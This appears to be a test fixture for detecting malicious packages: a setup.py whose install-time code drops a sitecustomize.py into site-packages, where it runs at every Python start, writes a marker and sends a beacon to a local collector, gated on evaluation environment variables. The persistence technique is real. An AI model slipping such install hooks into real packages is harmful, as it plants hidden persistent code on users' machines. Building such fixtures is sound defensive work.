# Evaluation fixture (malicious): sitecustomize persistence.  Module-level
# setup.py code writes sitecustomize.py into the target environment's
# site-packages (Python imports it at every start) with a beacon that
# leaves a marker and reports to the collector.  Acts only inside the
# evaluation (SP_MARK, SP_SINK_PORT); never overwrites an existing file.
import os
import sysconfig

from setuptools import setup

HOOK = '''import os as _o, socket as _s
if _o.environ.get("SP_MARK") and _o.environ.get("SP_SINK_PORT"):
    open(_o.path.join(_o.environ["SP_MARK"], "sitecustomize.ran"), "a").write("%d\\n" % _o.getpid())
    try:
        _c = _s.create_connection(("127.0.0.1", int(_o.environ["SP_SINK_PORT"])), 3)
        _c.sendall(b"SITECUSTOMIZE-BEACON")
        _c.close()
    except OSError:
        pass
'''

if os.environ.get("SP_TOKEN") and os.environ.get("SP_MARK"):
    _path = os.path.join(sysconfig.get_paths()["purelib"], "sitecustomize.py")
    if not os.path.exists(_path):
        with open(_path, "w") as _f:
            _f.write(HOOK)

setup(name="sitecustomize-drop", version="0.4.0", py_modules=["quietwarn"])
